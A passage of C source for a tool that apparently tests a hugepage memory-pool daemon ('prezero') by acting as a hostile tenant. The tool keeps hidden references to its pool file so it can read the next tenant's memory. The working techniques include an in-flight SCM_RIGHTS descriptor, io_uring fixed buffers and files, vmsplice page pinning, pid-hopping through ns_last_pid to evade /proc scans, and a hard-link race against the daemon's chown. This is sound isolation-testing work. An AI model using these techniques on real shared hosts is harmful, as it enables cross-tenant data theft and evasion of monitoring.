/*
 * hostile: a tenant that tries to keep a reference to its pool file where no
 * /proc scan can see it, so as to read the next tenant's memory (scripts/hostile.sh).
 *
 *   hostile TECHNIQUE PATH --sock KEEPER_SOCKET [--uid U --gid G] [--tag TAG]
 *           [--link-dir DIR] [--log FILE] [--lifetime SECONDS]
 *       PATH is the claimed pool file, or /proc/self/fd/N under `prezero launch`.
 *       The tenant maps it shared, counts its non-zero bytes (a fresh file must
 *       have none), writes its own 64-byte pattern (from TAG) over all of it, sets
 *       up a hidden reference, hands it to a detached keeper, lets go of
 *       everything else and prints one line:
 *         hostile-ready tech=T pgid=P ino=I size=S nonzero=Z own=X/Y [detail]
 *       own is read back by the keeper through the hidden reference alone, after
 *       the tenant let go of its descriptor and mapping: X < Y means the technique
 *       did not work. The keeper lives in process group P (kill -- -P ends it).
 *       Techniques:
 *         scm         the descriptor sent with SCM_RIGHTS into a socketpair and never received
 *         uring-buf   the mapping registered as an io_uring fixed buffer; read with WRITE_FIXED
 *         uring-file  the descriptor registered as an io_uring fixed file; read with IOSQE_FIXED_FILE
 *         vmsplice    pieces of every huge page vmspliced into a pipe; read with tee()
 *         forkhop     the keeper keeps the descriptor but moves to a new pid every millisecond,
 *                     each one below the last, chosen through /proc/sys/kernel/ns_last_pid
 *                     by a root helper (a scan that lists pids first and looks later misses it)
 *         linkrace    a second name in DIR (same mount) made through /proc/self/fd/N while the
 *                     tenant still owns the file, toggled so that it is there when the daemon
 *                     makes the file root's, though the link count it read just before was 1
 *   hostile next PATH --marker TAG [--uid U --gid G]
 *       The next tenant: counts non-zero bytes of its file (must be 0), writes the
 *       64-byte marker of TAG over all of it and prints
 *         hostile-next ino=I size=S nonzero=Z marker=B/B
 *   hostile ask KEEPER_SOCKET own|audit|scan TAG|quit
 *       One command to a keeper, its answer on stdout:
 *         own X/Y            blocks of its own pattern readable through the hidden reference
 *         audit own=X/Y foreign=B bytes=N [unreadable: WHY] [first=TEXT]
 *                            one read through it: blocks of its own pattern, and blocks that
 *                            are neither its own nor zero, whoever wrote them (the chaos soak:
 *                            any tenant's data), with their non-zero bytes that differ from its
 *                            own pattern's and the first such block (non-printables as '.')
 *         scan B/Y bytes=N   blocks (and bytes) of TAG's marker readable through it
 *         quit               it let go of everything and exits
 *
 * Started as root with --uid/--gid, it raises RLIMIT_MEMLOCK (a 64 MiB io_uring
 * buffer exceeds the default 8 MiB), then drops to that uid before it touches the
 * file; a root helper that holds no reference stays behind as the keeper's
 * subreaper (and, for forkhop, writes ns_last_pid). Exit status 0 on success,
 * 1 with one line on stderr otherwise, 2 for bad usage.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <liburing.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define BLOCK 64
#define PIECE 4096
#define CHUNK (4u << 20)

static int status_fd = -1;  /* the keeper's line to the tenant that waits for it */

static void say(const char *fmt, va_list ap, int err) {
    char msg[1024];
    int n = vsnprintf(msg, sizeof msg, fmt, ap);
    if (n < 0) n = 0;
    if ((size_t)n >= sizeof msg) n = sizeof msg - 1;
    if (err) snprintf(msg + n, sizeof msg - (size_t)n, ": %s", strerror(err));
    if (status_fd >= 0) dprintf(status_fd, "error %s\n", msg);
    fprintf(stderr, "hostile: %s\n", msg);
}

/* One line on stderr (and to the waiting tenant), exit 1. */
__attribute__((noreturn, format(printf, 1, 2))) static void fail(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    say(fmt, ap, 0);
    va_end(ap);
    exit(1);
}

/* The same, with strerror(errno). */
__attribute__((noreturn, format(printf, 1, 2))) static void fail_errno(const char *fmt, ...) {
    int e = errno;
    va_list ap;
    va_start(ap, fmt);
    say(fmt, ap, e);
    va_end(ap);
    exit(1);
}

__attribute__((noreturn)) static void usage(void) {
    fprintf(stderr, "usage: hostile scm|uring-buf|uring-file|vmsplice|forkhop|linkrace PATH --sock SOCKET [--uid U --gid G] [--tag TAG] [--link-dir DIR] [--log FILE] [--lifetime S]\n"
                    "       hostile next PATH --marker TAG [--uid U --gid G]\n"
                    "       hostile ask SOCKET own|audit|scan TAG|quit\n");
    exit(2);
}

static double now_s(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* A timestamped line in the keeper's log (--log): what it did, and when. */
__attribute__((format(printf, 1, 2))) static void note(const char *fmt, ...) {
    struct timespec t;
    clock_gettime(CLOCK_REALTIME, &t);
    struct tm tm;
    localtime_r(&t.tv_sec, &tm);
    char when[32];
    strftime(when, sizeof when, "%H:%M:%S", &tm);
    fprintf(stderr, "%s.%06ld [%d] ", when, t.tv_nsec / 1000, (int)getpid());
    va_list ap;
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    fflush(stderr);
}

/* ---- patterns and counting ---- */

/* 64 bytes from a tag, none of them zero (so that zeros never count as a match). */
static void pattern(const char *tag, uint8_t out[BLOCK]) {
    uint64_t h = 1469598103934665603ull;
    for (const char *c = tag; *c; c++) h = (h ^ (uint8_t)*c) * 1099511628211ull;
    for (int i = 0; i < BLOCK; i++) {
        h += 0x9E3779B97F4A7C15ull;
        uint64_t z = h;
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
        z ^= z >> 31;
        out[i] = (uint8_t)z ? (uint8_t)z : 0xA5;
    }
}

struct count {
    uint64_t blocks;  /* 64-byte blocks equal to the pattern */
    uint64_t total;   /* blocks looked at */
    uint64_t bytes;   /* bytes equal to the pattern's byte at their place (where it differs from `other`) */
    /* audit (the pattern is the keeper's own): what is neither its own pattern nor zero,
     * whoever wrote it: blocks, their bytes that are non-zero and differ from its own
     * pattern's byte at their place, and the first such block, for the record. */
    bool audit;
    uint64_t foreign_blocks, foreign_bytes;
    bool have_first;
    uint8_t first[BLOCK];
};

/* Counts over a buffer that starts at a multiple of 64 bytes of the file. */
static void count(const uint8_t *p, size_t n, const uint8_t pat[BLOCK], const uint8_t other[BLOCK], struct count *c) {
    static const uint8_t zero[BLOCK];
    for (size_t off = 0; off + BLOCK <= n; off += BLOCK) {
        c->total++;
        if (c->audit) {
            if (memcmp(p + off, pat, BLOCK) == 0) {
                c->blocks++;
            } else if (memcmp(p + off, zero, BLOCK) != 0) {
                c->foreign_blocks++;
                for (int i = 0; i < BLOCK; i++) c->foreign_bytes += p[off + i] != 0 && p[off + i] != pat[i];
                if (!c->have_first) {
                    memcpy(c->first, p + off, BLOCK);
                    c->have_first = true;
                }
            }
            continue;
        }
        if (memcmp(p + off, pat, BLOCK) == 0) {
            c->blocks++;
            if (!other) continue;
        }
        if (other)
            for (int i = 0; i < BLOCK; i++) c->bytes += p[off + i] == pat[i] && pat[i] != other[i];
    }
}

static uint64_t nonzero(const uint8_t *p, size_t n) {
    uint64_t z = 0;
    const uint64_t *w = (const uint64_t *)p;
    for (size_t i = 0; i < n / 8; i++)
        if (w[i]) for (int b = 0; b < 8; b++) z += p[i * 8 + (size_t)b] != 0;
    return z;
}

static void fill(uint8_t *p, size_t n, const uint8_t pat[BLOCK]) {
    for (size_t off = 0; off + BLOCK <= n; off += BLOCK) memcpy(p + off, pat, BLOCK);
}

/* ---- small helpers ---- */

static void drop_to(long uid, long gid) {
    if (uid < 0) return;
    if (setgroups(0, NULL) != 0) fail_errno("setgroups");
    if (setresgid((gid_t)gid, (gid_t)gid, (gid_t)gid) != 0) fail_errno("setresgid %ld", gid);
    if (setresuid((uid_t)uid, (uid_t)uid, (uid_t)uid) != 0) fail_errno("setresuid %ld", uid);
    if (getuid() != (uid_t)uid || geteuid() != (uid_t)uid) fail("still uid %d after dropping to %ld", (int)geteuid(), uid);
    /* Like any process of that uid: its /proc entries are its own. */
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
}

/* PATH, or the inherited descriptor N of /proc/self/fd/N (a file `prezero launch`
 * opened as root may already be root's, so it is used as it is, not reopened). */
static int open_target(const char *path) {
    int n;
    char extra;
    if (sscanf(path, "/proc/self/fd/%d%c", &n, &extra) == 1) {
        int fd = fcntl(n, F_DUPFD_CLOEXEC, 3);
        if (fd < 0) fail_errno("descriptor %d of %s", n, path);
        close(n);
        return fd;
    }
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) fail_errno("open %s", path);
    return fd;
}

static long read_long(const char *path, long dflt) {
    FILE *f = fopen(path, "r");
    long v = dflt;
    if (f) {
        if (fscanf(f, "%ld", &v) != 1) v = dflt;
        fclose(f);
    }
    return v;
}

static void write_all(int fd, const void *buf, size_t n) {
    const char *p = buf;
    while (n > 0) {
        ssize_t w = write(fd, p, n);
        if (w < 0 && errno == EINTR) continue;
        if (w <= 0) fail_errno("write");
        p += w;
        n -= (size_t)w;
    }
}

static void send_fd(int sock, int fd) {
    char byte = 'F';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
        struct cmsghdr h;
        char buf[CMSG_SPACE(sizeof(int))];
    } u;
    memset(&u, 0, sizeof u);
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(sock, &m, 0) != 1) fail_errno("sendmsg SCM_RIGHTS");
}

static int recv_fd(int sock) {
    char byte;
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
        struct cmsghdr h;
        char buf[CMSG_SPACE(sizeof(int))];
    } u;
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
    ssize_t r = recvmsg(sock, &m, MSG_DONTWAIT | MSG_CMSG_CLOEXEC);
    if (r != 1) return -1;
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    if (!c || c->cmsg_type != SCM_RIGHTS) return -1;
    int fd;
    memcpy(&fd, CMSG_DATA(c), sizeof fd);
    return fd;
}

/* Reads a whole file through a descriptor with pread, counting as it goes. */
static int count_fd(int fd, uint64_t size, const uint8_t pat[BLOCK], const uint8_t other[BLOCK], struct count *c) {
    uint8_t *buf = malloc(CHUNK);
    if (!buf) fail("out of memory");
    for (uint64_t off = 0; off < size;) {
        size_t want = size - off < CHUNK ? (size_t)(size - off) : CHUNK;
        ssize_t r = pread(fd, buf, want, (off_t)off);
        if (r < 0 && errno == EINTR) continue;
        if (r <= 0) {
            free(buf);
            return r < 0 ? -errno : -EIO;
        }
        count(buf, (size_t)r, pat, other, c);
        off += (uint64_t)r;
    }
    free(buf);
    return 0;
}

/* ---- the keeper's state: one hidden reference, one way to read through it ---- */

enum tech { SCM, URING_BUF, URING_FILE, VMSPLICE, FORKHOP, LINKRACE };
static const char *tech_names[] = {"scm", "uring-buf", "uring-file", "vmsplice", "forkhop", "linkrace"};

struct keeper {
    enum tech tech;
    uint64_t size;
    uint8_t own[BLOCK];
    int sv[2];              /* scm: the socketpair the descriptor sits in */
    struct io_uring ring;   /* uring-*: the ring */
    uintptr_t buf_addr;     /* uring-buf: where the registered buffer was mapped */
    int pipe_rd;            /* vmsplice: the read end of the pipe holding the pages */
    uint64_t spliced;       /* vmsplice: bytes in the pipe */
    size_t pieces;
    int fd;                 /* forkhop, linkrace: the descriptor (-1 once let go) */
    char keep[200];         /* linkrace: the second name */
    char detail[256];       /* extra words for the ready line */
};

/* Reads everything the hidden reference reaches; `other` given: count bytes too. */
static int keeper_read(struct keeper *k, const uint8_t pat[BLOCK], const uint8_t other[BLOCK], struct count *c,
                       char *why, size_t whylen) {
    why[0] = 0;
    switch (k->tech) {
    case SCM: {
        int fd = recv_fd(k->sv[1]);
        if (fd < 0) {
            snprintf(why, whylen, "no descriptor in flight");
            return -1;
        }
        int r = count_fd(fd, k->size, pat, other, c);
        send_fd(k->sv[0], fd);  /* back in flight, */
        close(fd);              /* and no copy of it kept */
        if (r < 0) snprintf(why, whylen, "pread: %s", strerror(-r));
        return r;
    }
    case URING_BUF: {
        int mfd = memfd_create("hostile-read", MFD_CLOEXEC);
        if (mfd < 0 || ftruncate(mfd, (off_t)k->size) != 0) fail_errno("memfd");
        for (uint64_t off = 0; off < k->size; off += CHUNK) {
            unsigned len = k->size - off < CHUNK ? (unsigned)(k->size - off) : CHUNK;
            struct io_uring_sqe *sqe = io_uring_get_sqe(&k->ring);
            io_uring_prep_write_fixed(sqe, mfd, (void *)(k->buf_addr + off), len, off, 0);
            struct io_uring_cqe *cqe;
            int r = io_uring_submit_and_wait(&k->ring, 1);
            if (r < 0 || io_uring_wait_cqe(&k->ring, &cqe) != 0) fail("io_uring submit: %s", strerror(-r));
            int res = cqe->res;
            io_uring_cqe_seen(&k->ring, cqe);
            if (res != (int)len) {
                close(mfd);
                snprintf(why, whylen, "WRITE_FIXED: %s", res < 0 ? strerror(-res) : "short write");
                return -1;
            }
        }
        uint8_t *m = mmap(NULL, k->size, PROT_READ, MAP_SHARED, mfd, 0);
        if (m == MAP_FAILED) fail_errno("mmap memfd");
        count(m, k->size, pat, other, c);
        munmap(m, k->size);
        close(mfd);
        return 0;
    }
    case URING_FILE: {
        uint8_t *buf = malloc(CHUNK);
        if (!buf) fail("out of memory");
        for (uint64_t off = 0; off < k->size;) {
            unsigned len = k->size - off < CHUNK ? (unsigned)(k->size - off) : CHUNK;
            struct io_uring_sqe *sqe = io_uring_get_sqe(&k->ring);
            io_uring_prep_read(sqe, 0, buf, len, off);
            sqe->flags |= IOSQE_FIXED_FILE;
            struct io_uring_cqe *cqe;
            int r = io_uring_submit_and_wait(&k->ring, 1);
            if (r < 0 || io_uring_wait_cqe(&k->ring, &cqe) != 0) fail("io_uring submit: %s", strerror(-r));
            int res = cqe->res;
            io_uring_cqe_seen(&k->ring, cqe);
            if (res <= 0) {
                free(buf);
                snprintf(why, whylen, "fixed-file read: %s", res < 0 ? strerror(-res) : "end of file");
                return -1;
            }
            count(buf, (size_t)res, pat, other, c);
            off += (uint64_t)res;
        }
        free(buf);
        return 0;
    }
    case VMSPLICE: {
        /* tee() copies the pipe's buffers (page references) into a second pipe without
         * consuming them; reading that one gives their bytes, and the first keeps its pages. */
        int q[2];
        if (pipe2(q, O_CLOEXEC) != 0) fail_errno("pipe");
        if (fcntl(q[1], F_SETPIPE_SZ, (int)k->spliced) < 0) fail_errno("F_SETPIPE_SZ %llu", (unsigned long long)k->spliced);
        ssize_t t = tee(k->pipe_rd, q[1], k->spliced, SPLICE_F_NONBLOCK);
        if (t != (ssize_t)k->spliced) {
            close(q[0]);
            close(q[1]);
            snprintf(why, whylen, "tee gave %zd of %llu bytes%s%s", t, (unsigned long long)k->spliced, t < 0 ? ": " : "",
                     t < 0 ? strerror(errno) : "");
            return -1;
        }
        close(q[1]);
        uint8_t *buf = malloc(k->spliced);
        if (!buf) fail("out of memory");
        uint64_t got = 0;
        while (got < k->spliced) {
            ssize_t r = read(q[0], buf + got, k->spliced - got);
            if (r < 0 && errno == EINTR) continue;
            if (r <= 0) break;
            got += (uint64_t)r;
        }
        close(q[0]);
        /* Every piece starts at a multiple of 64 of the file, so blocks line up. */
        count(buf, got, pat, other, c);
        free(buf);
        return got == k->spliced ? 0 : -1;
    }
    case FORKHOP: {
        int r = count_fd(k->fd, k->size, pat, other, c);
        if (r < 0) snprintf(why, whylen, "pread: %s", strerror(-r));
        return r;
    }
    case LINKRACE: {
        /* The name first: once the file is this uid's again (handed to the next tenant),
         * it opens. Then the descriptor, while it is still held. */
        int rc = -1;
        int nfd = open(k->keep, O_RDONLY | O_CLOEXEC);
        if (nfd >= 0) {
            struct count n = {.audit = c->audit};
            rc = count_fd(nfd, k->size, pat, other, &n);
            close(nfd);
            *c = n;
            if (rc < 0) snprintf(why, whylen, "pread %s: %s", k->keep, strerror(-rc));
        } else {
            snprintf(why, whylen, "open %s: %s", k->keep, strerror(errno));
        }
        if (k->fd >= 0) {
            struct count d = {.audit = c->audit};
            if (count_fd(k->fd, k->size, pat, other, &d) == 0) {
                if (rc < 0 || d.blocks > c->blocks) *c = d;
                rc = 0;
            }
        }
        if (rc < 0 && c->total == 0) c->total = k->size / BLOCK;
        return rc;
    }
    }
    return -1;
}

/* ---- the control socket ---- */

static int listen_on(const char *path) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof a.sun_path) fail("socket path too long: %s", path);
    strcpy(a.sun_path, path);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) fail_errno("socket");
    unlink(path);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0) fail_errno("bind %s", path);
    if (listen(s, 8) != 0) fail_errno("listen %s", path);
    return s;
}

static void keeper_quit(struct keeper *k) {
    if (k->tech == LINKRACE) unlink(k->keep);
    /* Everything else goes with the process. */
    _exit(0);
}

/* Serves one connection: one command line, one answer line. Returns false on quit. */
static bool serve(struct keeper *k, int ls) {
    int c = accept4(ls, NULL, NULL, SOCK_CLOEXEC);
    if (c < 0) return true;
    struct timeval tv = {.tv_sec = 5};
    setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    char line[512];
    size_t n = 0;
    while (n < sizeof line - 1) {
        ssize_t r = read(c, line + n, sizeof line - 1 - n);
        if (r <= 0) break;
        n += (size_t)r;
        if (memchr(line, '\n', n)) break;
    }
    line[n] = 0;
    line[strcspn(line, "\r\n")] = 0;
    char reply[1024], why[256];
    bool go_on = true;
    if (strcmp(line, "own") == 0) {
        struct count ct = {0};
        int r = keeper_read(k, k->own, NULL, &ct, why, sizeof why);
        if (r < 0 && ct.total == 0) ct.total = k->size / BLOCK;
        snprintf(reply, sizeof reply, "own %llu/%llu%s%s\n", (unsigned long long)ct.blocks, (unsigned long long)ct.total,
                 why[0] ? " unreadable: " : "", why);
    } else if (strncmp(line, "scan ", 5) == 0 && line[5]) {
        uint8_t marker[BLOCK];
        pattern(line + 5, marker);
        struct count ct = {0};
        int r = keeper_read(k, marker, k->own, &ct, why, sizeof why);
        if (r < 0 && ct.total == 0) ct.total = k->size / BLOCK;
        snprintf(reply, sizeof reply, "scan %llu/%llu bytes=%llu%s%s\n", (unsigned long long)ct.blocks,
                 (unsigned long long)ct.total, (unsigned long long)ct.bytes, why[0] ? " unreadable: " : "", why);
    } else if (strcmp(line, "audit") == 0) {
        struct count ct = {.audit = true};
        int r = keeper_read(k, k->own, NULL, &ct, why, sizeof why);
        if (r < 0 && ct.total == 0) ct.total = k->size / BLOCK;
        char first[BLOCK + 1] = "";
        if (ct.have_first) {
            for (int i = 0; i < BLOCK; i++) first[i] = ct.first[i] >= 0x20 && ct.first[i] < 0x7f ? (char)ct.first[i] : '.';
            first[BLOCK] = 0;
        }
        snprintf(reply, sizeof reply, "audit own=%llu/%llu foreign=%llu bytes=%llu%s%s%s%s\n", (unsigned long long)ct.blocks,
                 (unsigned long long)ct.total, (unsigned long long)ct.foreign_blocks, (unsigned long long)ct.foreign_bytes,
                 why[0] ? " unreadable: " : "", why, ct.have_first ? " first=" : "", first);
    } else if (strcmp(line, "quit") == 0) {
        snprintf(reply, sizeof reply, "quit\n");
        go_on = false;
    } else {
        snprintf(reply, sizeof reply, "error unknown command '%s'\n", line);
    }
    note("%s: %.*s", line, (int)strcspn(reply, "\n"), reply);
    if (write(c, reply, strlen(reply)) < 0) { /* the asker went away: nothing to tell */ }
    close(c);
    return go_on;
}

/* ---- forkhop: a new pid every millisecond, each below the one before ---- */

struct hopper {
    int req, rep;         /* to and from the root helper */
    long top, bottom;     /* the band the keeper's pids are chosen in */
    long next;
    unsigned long hops, on_target;
};

static void hop(struct hopper *h) {
    long target = h->next;
    h->next = target - 1 < h->bottom ? h->top : target - 1;
    int32_t want = (int32_t)target, ok = -1;
    write_all(h->req, &want, sizeof want);
    if (read(h->rep, &ok, sizeof ok) != sizeof ok) fail("the ns_last_pid helper is gone");
    if (ok != 0) fail("ns_last_pid: %s", strerror(ok));
    pid_t p = fork();
    if (p < 0) fail_errno("fork");
    if (p > 0) _exit(0);  /* the old pid goes; the child carries on with the descriptor */
    h->hops++;
    if (getpid() == target) h->on_target++;
    else if (getpid() < target && getpid() > h->bottom) h->next = getpid() - 1;
}

/* ---- the root helper: the keeper's subreaper, and forkhop's ns_last_pid writer ---- */

__attribute__((noreturn)) static void helper(int req, int rep, double lifetime) {
    int nsfd = req >= 0 ? open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC) : -1;
    int nserr = nsfd < 0 ? errno : 0;
    sigset_t set;
    sigemptyset(&set);
    sigaddset(&set, SIGCHLD);
    sigprocmask(SIG_BLOCK, &set, NULL);
    int sfd = signalfd(-1, &set, SFD_CLOEXEC | SFD_NONBLOCK);
    double end = now_s() + lifetime + 30;
    for (;;) {
        for (;;) {
            pid_t p = waitpid(-1, NULL, WNOHANG);
            if (p < 0 && errno == ECHILD) _exit(0);  /* the keeper is gone for good */
            if (p <= 0) break;
        }
        if (now_s() > end) _exit(0);
        struct pollfd pf[2] = {{.fd = sfd, .events = POLLIN}, {.fd = req, .events = POLLIN}};
        if (poll(pf, req >= 0 ? 2 : 1, 1000) < 0 && errno != EINTR) _exit(1);
        if (pf[0].revents) {
            struct signalfd_siginfo si;
            while (read(sfd, &si, sizeof si) == sizeof si) {}
        }
        if (req >= 0 && pf[1].revents) {
            int32_t want;
            if (read(req, &want, sizeof want) != sizeof want) {
                close(req);
                req = -1;
                continue;
            }
            char buf[32];
            int n = snprintf(buf, sizeof buf, "%d", (int)want - 1);
            int32_t err = nsfd < 0 ? nserr : pwrite(nsfd, buf, (size_t)n, 0) == n ? 0 : errno;
            if (write(rep, &err, sizeof err) != sizeof err) _exit(1);
        }
    }
}

/* ---- the tenant ---- */

struct opts {
    enum tech tech;
    const char *path, *sock, *tag, *link_dir, *log;
    long uid, gid;
    double lifetime;
    /* uring-buf without CAP_SYS_RESOURCE (RLIMIT_MEMLOCK cannot be raised): the ring is made
     * before the uid drop, by root with CAP_IPC_LOCK, so its buffers are not charged to the
     * uid's locked memory. The pin is the same; only the charge differs. */
    bool ring_as_root;
    struct io_uring *early_ring;
};

/* In the keeper process (already the tenant's uid): the tenant's work, then the keeper's. */
__attribute__((noreturn)) static void tenant(struct opts *o, struct hopper *hp) {
    struct keeper k;
    memset(&k, 0, sizeof k);
    k.tech = o->tech;
    k.fd = -1;
    k.pipe_rd = -1;
    pattern(o->tag, k.own);

    int fd = open_target(o->path);
    struct stat st;
    if (fstat(fd, &st) != 0) fail_errno("fstat %s", o->path);
    k.size = (uint64_t)st.st_size;
    uint64_t hps = (uint64_t)st.st_blksize;  /* hugetlbfs: the huge page size */
    if (k.size == 0 || k.size % BLOCK || hps == 0 || k.size % hps) fail("%s: size %llu is not whole huge pages", o->path, (unsigned long long)k.size);
    uint8_t *map = mmap(NULL, k.size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED) fail_errno("mmap %s", o->path);
    uint64_t nz = nonzero(map, k.size);
    fill(map, k.size, k.own);

    switch (o->tech) {
    case SCM:
        if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, k.sv) != 0) fail_errno("socketpair");
        send_fd(k.sv[0], fd);
        break;
    case URING_BUF: {
        int r = 0;
        if (o->early_ring) k.ring = *o->early_ring;
        else r = io_uring_queue_init(8, &k.ring, 0);
        if (r < 0) fail("io_uring_queue_init: %s", strerror(-r));
        if (o->early_ring) snprintf(k.detail, sizeof k.detail, "ring=made-by-root");
        struct iovec iov = {.iov_base = map, .iov_len = k.size};
        r = io_uring_register_buffers(&k.ring, &iov, 1);
        if (r < 0) {
            struct rlimit rl;
            getrlimit(RLIMIT_MEMLOCK, &rl);
            fail("io_uring_register_buffers of %llu bytes: %s (RLIMIT_MEMLOCK %llu; start as root with --uid/--gid to raise it)",
                 (unsigned long long)k.size, strerror(-r), (unsigned long long)rl.rlim_cur);
        }
        k.buf_addr = (uintptr_t)map;
        break;
    }
    case URING_FILE: {
        int r = io_uring_queue_init(8, &k.ring, 0);
        if (r < 0) fail("io_uring_queue_init: %s", strerror(-r));
        r = io_uring_register_files(&k.ring, &fd, 1);
        if (r < 0) fail("io_uring_register_files: %s", strerror(-r));
        break;
    }
    case VMSPLICE: {
        int p[2];
        if (pipe2(p, O_CLOEXEC) != 0) fail_errno("pipe");
        long maxsz = read_long("/proc/sys/fs/pipe-max-size", 1 << 20);
        uint64_t hpages = k.size / hps;
        /* One pipe buffer holds one small page: as many pieces of every huge page as fit. */
        uint64_t want = hpages * (hps / PIECE) * PIECE;
        if ((uint64_t)maxsz < want) want = (uint64_t)maxsz;
        int got = fcntl(p[1], F_SETPIPE_SZ, (int)want);
        if (got < 0) fail_errno("F_SETPIPE_SZ %llu", (unsigned long long)want);
        uint64_t per = ((uint64_t)got / PIECE) / hpages;
        if (per == 0) fail("a pipe of %d bytes cannot hold a piece of each of %llu huge pages", got, (unsigned long long)hpages);
        k.pieces = (size_t)(per * hpages);
        struct iovec *iov = calloc(k.pieces, sizeof *iov);
        if (!iov) fail("out of memory");
        size_t i = 0;
        for (uint64_t h = 0; h < hpages; h++)
            for (uint64_t j = 0; j < per; j++) {
                uint64_t off = h * hps + j * (hps / per) / PIECE * PIECE;
                iov[i].iov_base = map + off;
                iov[i].iov_len = PIECE;
                i++;
            }
        for (size_t done = 0; done < k.pieces;) {
            size_t n = k.pieces - done < 512 ? k.pieces - done : 512;
            ssize_t r = vmsplice(p[1], iov + done, n, 0);
            if (r < 0) fail_errno("vmsplice");
            if (r % PIECE) fail("vmsplice took %zd bytes, not whole pieces", r);
            done += (size_t)r / PIECE;
            k.spliced += (uint64_t)r;
        }
        free(iov);
        close(p[1]);
        k.pipe_rd = p[0];
        snprintf(k.detail, sizeof k.detail, "pieces=%zu of %llu huge pages", k.pieces, (unsigned long long)hpages);
        break;
    }
    case FORKHOP:
        k.fd = fd;
        fd = -1;
        break;
    case LINKRACE: {
        k.fd = fd;
        fd = -1;
        if (!o->link_dir) fail("linkrace needs --link-dir DIR (a directory of this uid on the same mount)");
        if ((size_t)snprintf(k.keep, sizeof k.keep, "%s/keep-%s", o->link_dir, o->tag) >= sizeof k.keep)
            fail("--link-dir and --tag make a name over %zu bytes", sizeof k.keep - 1);
        break;
    }
    }
    munmap(map, k.size);
    if (fd >= 0) close(fd);

    int ls = listen_on(o->sock);
    struct count own = {0};
    char why[256] = "";

    if (o->tech == LINKRACE) {
        /* The name, made while this uid still owns the file, and read through. */
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", k.fd);
        unlink(k.keep);
        const char *race = "timeout";
        if (linkat(AT_FDCWD, self, AT_FDCWD, k.keep, AT_SYMLINK_FOLLOW) != 0) {
            /* Under launch the daemon may have made the file root's before this tenant
             * got here (its name is gone from the start): the race was lost, not broken. */
            if (errno != EPERM && errno != EACCES) fail_errno("link %s to %s", self, k.keep);
            race = "lost";
            note("linkrace: lost before it began: %s", strerror(errno));
        }
        if (strcmp(race, "lost") != 0) keeper_read(&k, k.own, NULL, &own, why, sizeof why);
        /* End the lease the way libvirt does, by removing the destination name (a
         * `prezero release` makes the file root's before it removes the name). */
        if (strncmp(o->path, "/proc/self/fd/", 14) != 0 && unlink(o->path) != 0) fail_errno("unlink %s", o->path);
        /* Toggle the second name until the daemon makes the file root's: it is gone
         * for one linkat (the daemon may read a link count of 1 then), and there for
         * 30 us (the daemon's chown, which comes just after, finds it). */
        note("linkrace: racing on %s (inode %llu, %llu links)", k.keep, (unsigned long long)st.st_ino, (unsigned long long)st.st_nlink);
        unsigned long toggles = 0;
        double end = now_s() + 30;
        struct stat fs = {0};
        while (strcmp(race, "lost") != 0 && now_s() < end) {
            if (unlink(k.keep) != 0 && errno != ENOENT) fail_errno("unlink %s", k.keep);
            if (linkat(AT_FDCWD, self, AT_FDCWD, k.keep, AT_SYMLINK_FOLLOW) != 0) {
                if (errno == EPERM || errno == EACCES) {
                    race = "lost";  /* made root's while the name was away */
                    break;
                }
                fail_errno("link %s", k.keep);
            }
            toggles++;
            double until = now_s() + 30e-6;
            bool chowned = false;
            do {
                if (fstat(k.fd, &fs) != 0) fail_errno("fstat");
                chowned = fs.st_uid != getuid();
            } while (!chowned && now_s() < until);
            if (chowned) {
                struct stat ks;
                race = stat(k.keep, &ks) == 0 && ks.st_ino == fs.st_ino ? "won" : "lost";
                break;
            }
        }
        /* Let go at once: a holder seen now would keep the file leased. */
        close(k.fd);
        note("linkrace: %s after %lu toggles (owner uid %d, %llu links)", race, toggles, (int)fs.st_uid, (unsigned long long)fs.st_nlink);
        k.fd = -1;
        snprintf(k.detail, sizeof k.detail, "race=%s name=%s", race, k.keep);
        if (strcmp(race, "won") != 0) own.blocks = 0;
    } else if (o->tech == FORKHOP) {
        /* 20 hops at least; more while none has landed on the pid asked: between the write to
         * ns_last_pid and the fork, any task the host creates (a QEMU's threads, a busy soak's
         * launches) takes that pid first. */
        for (int i = 0; i < 20 || (hp->on_target == 0 && i < 1000); i++) hop(hp);
        if (hp->on_target == 0) fail("%lu hops, none got the pid asked through ns_last_pid", hp->hops);
